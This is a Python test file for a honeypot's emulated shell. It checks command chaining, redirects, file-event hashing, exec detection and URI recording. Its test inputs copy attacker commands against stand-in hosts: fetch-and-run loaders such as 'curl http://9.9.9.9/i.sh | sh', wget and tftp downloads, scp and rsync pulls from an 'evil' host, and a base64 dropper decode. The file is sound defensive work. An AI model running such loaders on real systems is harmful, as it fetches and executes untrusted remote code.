"""Engine semantics: connectors, redirects, file events, exec attempts."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from repro.honeypot.session import FileOp
from repro.honeypot.shell.context import ShellContext
from repro.honeypot.shell.engine import ShellEngine
from repro.util.hashing import sha256_hex


@pytest.fixture
def ctx():
    return ShellContext()


@pytest.fixture
def engine(ctx):
    return ShellEngine(ctx)


class TestConnectors:
    def test_and_short_circuits(self, engine):
        output = engine.run_line("cat /nope && echo yes").output
        assert "yes" not in output

    def test_and_runs_on_success(self, engine):
        assert "yes" in engine.run_line("true && echo yes").output

    def test_or_runs_on_failure(self, engine):
        assert "fallback" in engine.run_line("cat /nope || echo fallback").output

    def test_or_skipped_on_success(self, engine):
        output = engine.run_line("echo first || echo second").output
        assert "second" not in output

    def test_cd_fallback_chain(self, ctx, engine):
        engine.run_line("cd /nonexistent || cd /var/run || cd /mnt")
        assert ctx.cwd == "/var/run"


class TestExitStatus:
    @pytest.mark.parametrize(
        ("line", "output"),
        [
            ("false; echo $?", "1\n"),
            ("true; echo $?", "0\n"),
            (
                'cat /nonexistent; echo "status $?"',
                "cat: /nonexistent: No such file or directory\nstatus 1\n",
            ),
            (
                "nosuchcmd; echo ${?}",
                "-bash: nosuchcmd: command not found\n127\n",
            ),
        ],
    )
    def test_expands_to_the_last_status(self, engine, line, output):
        assert engine.run_line(line).output == output

    def test_read_on_the_next_line(self, engine):
        engine.run_line("false")
        assert engine.run_line("echo $?").output == "1\n"


class TestRedirects:
    def test_create_event_with_hash(self, ctx, engine):
        engine.run_line("echo payload > /tmp/f")
        (event,) = [e for e in ctx.file_events if e.path == "/tmp/f"]
        assert event.op == FileOp.CREATE
        assert event.sha256 == sha256_hex(b"payload\n")

    def test_append_accumulates(self, ctx, engine):
        engine.run_line("echo one > /tmp/f")
        engine.run_line("echo two >> /tmp/f")
        assert ctx.fs.read("/tmp/f") == b"one\ntwo\n"
        ops = [e.op for e in ctx.file_events if e.path == "/tmp/f"]
        assert ops == [FileOp.CREATE, FileOp.MODIFY]

    def test_dev_null_no_event(self, ctx, engine):
        engine.run_line("echo x > /dev/null")
        assert ctx.file_events == []

    def test_relative_path_resolved(self, ctx, engine):
        engine.run_line("cd /tmp")
        engine.run_line("echo x > f")
        assert ctx.fs.is_file("/tmp/f")

    def test_binary_roundtrip_via_echo_hex(self, ctx, engine):
        payload = bytes(range(256))
        escaped = "".join(f"\\x{b:02x}" for b in payload)
        engine.run_line(f'echo -ne "{escaped}" > /tmp/bin')
        assert ctx.fs.read("/tmp/bin") == payload

    @given(st.binary(min_size=1, max_size=64))
    @settings(max_examples=40, deadline=None)
    def test_binary_roundtrip_property(self, payload):
        context = ShellContext()
        local_engine = ShellEngine(context)
        escaped = "".join(f"\\x{b:02x}" for b in payload)
        local_engine.run_line(f'echo -ne "{escaped}" > /tmp/bin')
        assert context.fs.read("/tmp/bin") == payload

    def test_base64_dropper_hash_matches(self, ctx, engine):
        import base64

        payload = b"\x7fELF\x01\x02binary-blob\xff\xfe"
        blob = base64.b64encode(payload).decode()
        engine.run_line(f"echo {blob} > /tmp/p.b64")
        engine.run_line("base64 -d /tmp/p.b64 > /tmp/p")
        assert ctx.fs.read("/tmp/p") == payload
        assert any(e.sha256 == sha256_hex(payload) for e in ctx.file_events)


class TestExecAttempts:
    def test_exec_existing_records_hash(self, ctx, engine):
        engine.run_line("echo -n run > /tmp/x")
        engine.run_line("./x" if ctx.cwd == "/tmp" else "/tmp/x")
        events = [e for e in ctx.file_events if e.op == FileOp.EXECUTE]
        assert events and events[0].sha256 == sha256_hex(b"run")

    def test_exec_missing(self, ctx, engine):
        record = engine.run_line("./ghost")
        assert "No such file" in record.output
        assert any(e.op == FileOp.EXECUTE_MISSING for e in ctx.file_events)

    def test_sh_script_is_exec(self, ctx, engine):
        engine.run_line("echo -n x > /tmp/s.sh")
        engine.run_line("sh /tmp/s.sh")
        assert any(
            e.op == FileOp.EXECUTE and e.path == "/tmp/s.sh"
            for e in ctx.file_events
        )

    def test_perl_script_is_exec(self, ctx, engine):
        engine.run_line("perl /tmp/dred.pl")
        assert any(e.op == FileOp.EXECUTE_MISSING for e in ctx.file_events)

    def test_perl_inline_is_not_exec(self, ctx, engine):
        engine.run_line("perl -e 'print 1'")
        assert ctx.file_events == []


class TestUnknownCommands:
    def test_scp_unknown(self, engine):
        record = engine.run_line("scp user@evil:/x /tmp/x")
        assert not record.known
        assert "command not found" in record.output

    def test_rsync_unknown(self, engine):
        assert not engine.run_line("rsync -a evil:/m /tmp/").known

    def test_known_chain_stays_known(self, engine):
        assert engine.run_line("cd /tmp; uname -a").known

    def test_one_unknown_taints_line(self, engine):
        assert not engine.run_line("uname -a; frobnicate").known


class TestPathCommands:
    def test_bin_busybox_resolves(self, engine):
        record = engine.run_line("/bin/busybox ZXCVB")
        assert record.known
        assert "applet not found" in record.output

    def test_usr_bin_wget_resolves(self, ctx, engine):
        ctx.remote_files["http://h/f"] = b"x"
        engine.run_line("/usr/bin/wget http://h/f")
        assert ctx.uris == ["http://h/f"]

    def test_parse_error_recorded_unknown(self, engine):
        record = engine.run_line('echo "unterminated')
        assert not record.known

    def test_exit_stops_session(self, ctx, engine):
        engine.run_line("exit")
        assert ctx.exited


class TestUriRecording:
    def test_uri_extracted_from_unknown_line(self, ctx, engine):
        engine.run_line("scp http://1.2.3.4/payload /tmp/x")
        assert "http://1.2.3.4/payload" in ctx.uris

    def test_no_double_recording(self, ctx, engine):
        ctx.remote_files["http://1.2.3.4/f"] = b"x"
        engine.run_line("wget http://1.2.3.4/f")
        assert ctx.uris.count("http://1.2.3.4/f") == 1

    def test_tftp_synthesized_uri(self, ctx, engine):
        engine.run_line("tftp -g -r file 9.9.9.9")
        assert "tftp://9.9.9.9/file" in ctx.uris


class TestWrappers:
    def test_nohup_runs_inner(self, engine):
        assert "hi" in engine.run_line("nohup echo hi").output

    def test_sudo_runs_inner(self, engine):
        assert engine.run_line("sudo uname").output == "Linux\n"

    def test_sh_c_runs_inline(self, ctx, engine):
        engine.run_line('sh -c "echo inner > /tmp/inner"')
        assert ctx.fs.is_file("/tmp/inner")


class TestPipeToShell:
    def test_curl_pipe_sh_executes_fetched_script(self):
        # the classic `curl url | sh` loader: the fetched script body is
        # executed line by line through the emulated shell
        ctx = ShellContext(
            remote_files={"http://9.9.9.9/i.sh": b"echo stage2 > /tmp/stage2\n"}
        )
        engine = ShellEngine(ctx)
        engine.run_line("curl http://9.9.9.9/i.sh | sh")
        assert ctx.fs.read("/tmp/stage2") == b"stage2\n"

    def test_wget_quiet_stdout_pipe(self):
        ctx = ShellContext(
            remote_files={"http://9.9.9.9/i.sh": b"echo hi\n"}
        )
        engine = ShellEngine(ctx)
        record = engine.run_line("wget -q http://9.9.9.9/i.sh -O - | sh")
        assert "hi" in record.output
